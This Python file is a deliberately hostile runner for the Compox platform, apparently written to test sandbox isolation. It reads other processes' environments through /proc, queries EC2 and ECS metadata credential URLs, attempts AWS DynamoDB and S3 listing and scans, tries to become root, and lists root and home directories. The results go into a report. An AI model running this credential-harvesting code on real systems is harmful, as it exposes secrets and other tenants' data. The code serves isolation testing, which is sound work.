"""A hostile Compox runner: it looks for credentials, endpoints, stack names and other tenants' data the
way uploaded code could, and reports what it found (its output's `report`, JSON; and its log)."""

import contextlib
import json
import os
import socket
import urllib.request
from pathlib import Path

from compox.algorithm_utils.BaseRunner import BaseRunner
from compox.algorithm_utils.io_schemas import DataSchema

TIMEOUT_S = 2
METADATA_URLS = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",  # EC2 instance metadata
    "http://169.254.170.2/v2/credentials/",  # ECS task credentials
)


class ReportSchema(DataSchema):
    report: str


def _attempt(action):
    """What an action returned, or the error it raised, as text."""
    try:
        return {"ok": True, "result": action()}
    except Exception as exc:  # noqa: BLE001  # every failure is a finding
        return {"ok": False, "error": f"{type(exc).__name__}: {exc}"[:300]}


def _proc_environs():
    found = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                found[entry.name] = (entry / "environ").read_bytes().decode(errors="replace")
    return found


def _interfaces():
    """The network interfaces this process's network namespace has."""
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    return sorted(line.split(":", 1)[0].strip() for line in lines)


def _listing(path):
    return sorted(child.name for child in Path(path).iterdir())[:50]


def _aws_calls(endpoint):
    import boto3  # the worker's environment has it; the sandbox has no credentials for it

    def calls(**client_args):
        dynamodb = boto3.client("dynamodb", region_name="us-east-1", **client_args)
        s3 = boto3.client("s3", region_name="us-east-1", **client_args)
        tables = _attempt(lambda: dynamodb.list_tables()["TableNames"])
        scans = {
            name: _attempt(lambda name=name: dynamodb.scan(TableName=name, Limit=5)["Count"])
            for name in (tables.get("result") or [])
        }
        buckets = _attempt(lambda: [b["Name"] for b in s3.list_buckets()["Buckets"]])
        return {"list_tables": tables, "scan": scans, "list_buckets": buckets}

    fake = {"aws_access_key_id": "testing", "aws_secret_access_key": "testing"}
    return {
        "default_chain": _attempt(lambda: calls()),
        "fake_credentials_at_endpoint": _attempt(lambda: calls(endpoint_url=endpoint, **fake)),
    }


def _fetch(url):
    with urllib.request.urlopen(url, timeout=TIMEOUT_S) as response:  # noqa: S310  # the probe
        return response.read()[:200].decode(errors="replace")


def _connect(url):
    host, port = url.split("//", 1)[1].split(":")
    with socket.create_connection((host, int(port)), timeout=TIMEOUT_S):
        return "connected"


class Runner(BaseRunner):
    """Ignores its input; its output is the report."""

    def preprocess(self, input_data, args=None):
        return None

    def inference(self, data, args=None):
        endpoint = (args or {}).get("probe_endpoint", "http://127.0.0.1:5000")
        package_dir = Path(__file__).resolve().parent
        environs = _proc_environs()
        report = {
            "uid": os.getuid(),
            "gid": os.getgid(),
            "environ": dict(os.environ),
            "parent_environ": _attempt(lambda: Path(f"/proc/{os.getppid()}/environ").read_bytes().decode()),
            "proc_environ_readable": {pid: text for pid, text in environs.items() if int(pid) != os.getpid()},
            "aws": _aws_calls(endpoint),
            "network_interfaces": _interfaces(),
            "endpoint_socket": _attempt(lambda: _connect(endpoint)),
            "internet_socket": _attempt(lambda: _connect("http://1.1.1.1:443")),
            "metadata": {url: _attempt(lambda url=url: _fetch(url)) for url in METADATA_URLS},
            "signal_parent": _attempt(lambda: os.kill(os.getppid(), 0)),
            "become_root": _attempt(lambda: os.setuid(0)),
            "listings": {
                str(path): _attempt(lambda path=path: _listing(path))
                for path in (
                    "/",
                    Path.home(),
                    Path("~root").expanduser(),
                    package_dir,
                    package_dir.parent,
                    package_dir.parent.parent,
                )
            },
        }
        text = json.dumps(report, default=str)
        self.log_message(f"hostile report: {text[:4000]}")
        return text

    def postprocess(self, data, args=None):
        return self.post_data([{"report": data}], ReportSchema)
